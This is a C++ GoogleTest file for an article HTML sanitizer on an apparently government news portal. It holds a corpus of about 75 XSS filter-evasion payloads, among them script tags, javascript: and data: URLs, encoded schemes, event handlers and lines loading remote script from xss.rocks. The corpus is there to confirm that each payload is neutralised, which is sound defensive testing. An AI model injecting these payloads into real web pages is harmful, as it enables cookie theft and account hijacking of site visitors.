// The article sanitizer against an XSS corpus in the style of the OWASP XSS filter evasion
// cheat sheet: every payload must come out inert — re-parsed as a browser would, no element
// outside the allow-list, no event handler or style attribute beyond text-align, no link or
// image source outside the safe schemes — and sanitizing twice changes nothing more.
#include <gtest/gtest.h>
#include <gumbo.h>

#include <set>
#include <string>

#include "modules/publicity/sanitize.hpp"

namespace md::publicity {
namespace {

const std::set<std::string> kAllowed = {
    "p",  "h2", "h3", "h4",   "strong", "b",     "em",    "i",     "u",     "s",    "blockquote",
    "ul", "ol", "li", "a",    "img",    "table", "thead", "tbody", "tfoot", "tr",   "th",
    "td", "br", "hr", "span", "sub",    "sup",   "pre",   "code",  "html",  "head", "body"};

// Walks the re-parsed output; returns what is not inert, or "".
std::string problem(const GumboNode* n) {
  if (n->type != GUMBO_NODE_ELEMENT) return "";
  const GumboElement& el = n->v.element;
  if (el.tag_namespace != GUMBO_NAMESPACE_HTML) return "foreign element";
  std::string name = el.tag == GUMBO_TAG_UNKNOWN ? "?" : gumbo_normalized_tagname(el.tag);
  if (!kAllowed.count(name)) return "element " + name;
  for (unsigned i = 0; i < el.attributes.length; ++i) {
    auto* a = static_cast<const GumboAttribute*>(el.attributes.data[i]);
    std::string attr = a->name, value = a->value;
    if (attr.rfind("on", 0) == 0) return "handler " + attr;
    if (attr == "href" && !is_safe_link(value)) return "href " + value;
    if (attr == "src" && !is_safe_image(value)) return "src " + value;
    if (attr == "style" && value.rfind("text-align:", 0) != 0) return "style " + value;
    static const std::set<std::string> ok = {"href",   "src",     "alt",     "title", "width",
                                             "height", "colspan", "rowspan", "rel",   "style"};
    if (!ok.count(attr)) return "attribute " + attr;
  }
  for (unsigned i = 0; i < el.children.length; ++i) {
    auto p = problem(static_cast<const GumboNode*>(el.children.data[i]));
    if (!p.empty()) return p;
  }
  return "";
}

std::string inertness_problem(const std::string& html) {
  GumboOutput* doc = gumbo_parse(html.c_str());
  std::string p = problem(doc->root);
  gumbo_destroy_output(&kGumboDefaultOptions, doc);
  return p;
}

const char* const kPayloads[] = {
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
    "&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039"
    "&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;"
    "&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28"
    "&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://xss.rocks/scriptlet.html <",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>"
    "</mtext></math>",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html "
    "base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<p style=\"text-align:center;background:url(javascript:alert(1))\">x</p>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH "
    "A6Ly93d3cudzMub3JnLzIwMDAvc3Zn"
    "Ij48L3N2Zz4=\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<a href=\"java&NewLine;script:alert(1)\">x</a>",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
    "<img src=\"http://example.com/x.png\" onerror=alert(1)>",
    "<img src=\"/portal/files/1 onerror=alert(1)\">",
    "<img src=\"/portal/files/../../../etc/passwd\">",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<form action=\"javascript:alert(1)\"><button formaction=javascript:alert(1)>x</button></form>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<audio src=x onerror=alert(1)>",
    "<base href=\"javascript:alert(1)//\">",
    "<xmp><script>alert(1)</script></xmp>",
    "<p id=\"x\" class=\"MsoNormal\" onclick=\"alert(1)\" data-x=\"1\">Word</p>",
    "<a href=\"https://example.com\" target=\"_blank\" onclick=\"alert(1)\">ok</a>",
    "<textarea><script>alert(1)</script></textarea>",
    "<select><option><script>alert(1)</script></option></select>",
    "\"><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<span style=\"color:red\" onmouseover=alert(1)>x</span>",
    "<td colspan=\"2 onmouseover=alert(1)\">x</td>",
};

TEST(PublicitySanitize, CorpusHasEnoughPayloads) { EXPECT_GE(std::size(kPayloads), 40u); }

TEST(PublicitySanitize, EveryPayloadComesOutInert) {
  for (const char* payload : kPayloads) {
    std::string out = sanitize_html(payload);
    EXPECT_EQ(inertness_problem(out), "") << payload << "\n→ " << out;
    EXPECT_EQ(sanitize_html(out), out) << "not stable: " << payload;
    std::string lower;
    for (char c : out) lower += static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
    // Whatever text remains is escaped: no live markup, no script URL in an attribute.
    EXPECT_EQ(lower.find("<script"), std::string::npos) << payload;
    EXPECT_EQ(lower.find("=\"javascript:"), std::string::npos) << payload;
    EXPECT_EQ(lower.find("=\"data:"), std::string::npos) << payload;
  }
}

TEST(PublicitySanitize, KeepsWhatTheEditorMakes) {
  std::string in =
      "<h2>标题</h2><p style=\"text-align: center\">居中<strong>加粗</strong><em>斜体</em>"
      "<u>下划线</u><s>删除</s></p><blockquote>引用</blockquote><ul><li>一</li></ul>"
      "<ol><li>二</li></ol><p><a href=\"https://www.yunxi.gov.cn/a?b=1&c=2\">链接</a><br>"
      "<img src=\"/portal/files/12\" alt=\"图\"></p><table><tbody><tr><td colspan=\"2\">格"
      "</td></tr></tbody></table>";
  std::string out = sanitize_html(in);
  EXPECT_NE(out.find("<h2>标题</h2>"), std::string::npos) << out;
  EXPECT_NE(out.find("<p style=\"text-align:center\">"), std::string::npos) << out;
  EXPECT_NE(out.find("<strong>加粗</strong><em>斜体</em><u>下划线</u><s>删除</s>"),
            std::string::npos);
  EXPECT_NE(out.find("<a href=\"https://www.yunxi.gov.cn/a?b=1&amp;c=2\" rel=\"noopener "
                     "noreferrer\">链接</a><br>"),
            std::string::npos)
      << out;
  EXPECT_NE(out.find("<img src=\"/portal/files/12\" alt=\"图\">"), std::string::npos) << out;
  EXPECT_NE(out.find("<td colspan=\"2\">格</td>"), std::string::npos) << out;
}

TEST(PublicitySanitize, CleansPastedWord) {
  std::string in =
      "<!--[if gte mso 9]><xml><w:WordDocument></w:WordDocument></xml><![endif]-->"
      "<p class=MsoNormal style='mso-line-height-alt:12pt'><span lang=EN-US "
      "style='font-family:宋体'>云溪区<o:p></o:p></span></p><div><font face=宋体>人大</font></div>";
  std::string out = sanitize_html(in);
  EXPECT_EQ(out, "<p><span>云溪区</span></p>人大");
}

TEST(PublicitySanitize, HeadingsAreMappedAndTextIsEscaped) {
  EXPECT_EQ(sanitize_html("<h1>a</h1><h6>b</h6>"), "<h2>a</h2><h4>b</h4>");
  EXPECT_EQ(sanitize_html("1 < 2 & \"q\""), "1 &lt; 2 &amp; &quot;q&quot;");
}

TEST(PublicitySanitize, PlainText) {
  EXPECT_EQ(html_to_text("<p>第一段</p><p>第二&amp;段<script>x</script></p>"), "第一段 第二&段");
  EXPECT_EQ(html_to_text("<p>一二三四五</p>", 3), "一二三");
}

TEST(PublicitySanitize, Urls) {
  EXPECT_TRUE(is_safe_link("https://a.cn"));
  EXPECT_TRUE(is_safe_link("mailto:a@b.cn"));
  EXPECT_FALSE(is_safe_link("java\nscript:alert(1)"));
  EXPECT_FALSE(is_safe_link("/relative"));
  EXPECT_TRUE(is_safe_image("/portal/files/7"));
  EXPECT_FALSE(is_safe_image("/portal/files/07"));
  EXPECT_FALSE(is_safe_image("http://a.cn/x.png"));
  EXPECT_FALSE(is_safe_image("data:image/png;base64,AAAA"));
}

}  // namespace
}  // namespace md::publicity
